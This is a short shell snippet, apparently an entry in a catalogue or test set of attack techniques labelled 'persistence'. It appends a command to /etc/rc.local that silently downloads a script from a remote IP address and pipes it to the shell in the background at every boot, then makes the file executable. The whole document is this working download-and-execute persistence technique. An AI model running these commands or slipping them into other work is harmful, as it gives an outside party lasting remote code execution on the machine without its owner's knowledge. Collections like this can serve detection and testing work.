# description: Adds a downloader to /etc/rc.local so it runs at boot.
# family: persistence
echo 'curl -s http://198.51.100.7/boot.sh | sh &' >> /etc/rc.local
chmod +x /etc/rc.local
